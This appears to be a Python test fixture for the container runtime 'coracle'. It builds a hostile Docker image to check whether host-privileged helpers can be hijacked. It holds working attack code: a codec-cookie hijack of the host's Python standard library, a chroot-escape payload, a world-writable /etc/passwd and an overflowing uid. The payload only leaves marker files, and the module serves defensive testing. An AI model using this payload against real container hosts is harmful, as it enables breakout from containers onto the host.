"""A malicious image, built from tar files and loaded through the API, for the helper attacks.

It plants a fake standard library at the host interpreter's own paths: every
source file a traceback of the host's Python could show (the stdlib's top-level
modules, coracle's own modules) carries a `# coding: pwn` cookie, and
`encodings/pwn.py` (the codec such a cookie makes Python import) and
`encodings/__init__.py` hold a payload. Should any host-privileged process that
entered the container print a traceback or import a module, the payload runs
there and leaves markers: `/PWNED` in the container and, after climbing out of
a chroot, a file at a host path the test chooses.

It also holds a very deep directory tree (deeper than Python's recursion
limit), a user `huge` whose uid does not fit a uid_t, an /etc/passwd the user
`evil` (uid 1000) may rewrite, and busybox.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import tarfile
import tempfile
from pathlib import Path

import coracle
import harness

CONTAINER_MARKER = "PWNED"
DEEP = 1100  # directory levels below /deep
HUGE_ID = 99999999999999999999
PASSWD = f"root:x:0:0::/root:/bin/sh\nevil:x:1000:1000::/:/bin/sh\nhuge:x:{HUGE_ID}:{HUGE_ID}::/:/bin/sh\n"


def payload(host_marker: str) -> str:
    return f"""import os
def _mark(path):
    try:
        with open(path, "w") as f:
            f.write("container code ran in a host helper\\n")
    except Exception:
        pass
_mark("/{CONTAINER_MARKER}")
try:
    os.chroot("/etc")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    _mark({host_marker!r})
except Exception:
    pass
"""


def _host_sources() -> list[str]:
    """Paths of the host's Python sources a traceback in a helper could open."""
    stdlib = os.path.dirname(os.__file__)
    found = [os.path.join(stdlib, n) for n in os.listdir(stdlib) if n.endswith(".py")]
    for package in ("json", "importlib", "collections", "ctypes"):
        found += [os.path.join(stdlib, package, n) for n in os.listdir(os.path.join(stdlib, package))
                  if n.endswith(".py")]
    for dirpath, _, names in os.walk(os.path.dirname(coracle.__file__)):
        found += [os.path.join(dirpath, n) for n in names if n.endswith(".py")]
    return found


def _layer(entries: list[tuple[str, bytes | None, int]], deep: int = 0) -> bytes:
    """A layer tar of (path, content or None for a directory, mode) plus a `deep` tree at /deep."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        made: set[str] = set()
        for path, data, mode in entries:
            parts = path.strip("/").split("/")
            for i in range(1, len(parts)):
                parent = "/".join(parts[:i])
                if parent not in made:
                    made.add(parent)
                    info = tarfile.TarInfo(parent)
                    # /tmp keeps its sticky, world-writable mode when the host interpreter lives below it.
                    info.type, info.mode = tarfile.DIRTYPE, 0o1777 if parent == "tmp" else 0o755
                    tf.addfile(info)
            info = tarfile.TarInfo("/".join(parts))
            info.mode = mode
            if data is None:
                info.type = tarfile.DIRTYPE
                tf.addfile(info)
            else:
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
        for level in range(1, deep + 1):
            info = tarfile.TarInfo("deep/" + "/".join(["d"] * level))
            info.type, info.mode = tarfile.DIRTYPE, 0o755
            tf.addfile(info)
    return buf.getvalue()


def _busybox_layer() -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        root = harness.busybox_rootfs(Path(tmp) / "root")
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tf:
            for name in sorted(os.listdir(root)):
                tf.add(root / name, arcname=name)
        return buf.getvalue()


def archive(tag: str, host_marker: str) -> bytes:
    """A `docker save` archive of the hostile image, tagged `tag`."""
    cookie = b"# -*- coding: pwn -*-\n" + b"# " * 40 + b"\n"
    code = payload(host_marker).encode()
    stdlib = os.path.dirname(os.__file__)
    entries: list[tuple[str, bytes | None, int]] = [(p, cookie, 0o644) for p in _host_sources()]
    entries += [(os.path.join(stdlib, "encodings", "pwn.py"), code, 0o644),
                (os.path.join(stdlib, "encodings", "__init__.py"), code, 0o644)]
    attack = _layer(entries, deep=DEEP)
    users = _layer([("etc/passwd", PASSWD.encode(), 0o666), ("data", None, 0o777)])
    layers = [_busybox_layer(), attack, users]
    diff_ids = ["sha256:" + hashlib.sha256(layer).hexdigest() for layer in layers]
    config = json.dumps({"architecture": "amd64", "os": "linux", "config": {"Env": ["PATH=/bin"], "Cmd": ["sh"]},
                         "rootfs": {"type": "layers", "diff_ids": diff_ids}}).encode()
    config_name = hashlib.sha256(config).hexdigest() + ".json"
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tf:
        members = [(f"layer{i}.tar", layer) for i, layer in enumerate(layers)] + [(config_name, config)]
        members.append(("manifest.json", json.dumps([{"Config": config_name, "RepoTags": [tag],
                                                       "Layers": [f"layer{i}.tar" for i in range(3)]}]).encode()))
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return out.getvalue()

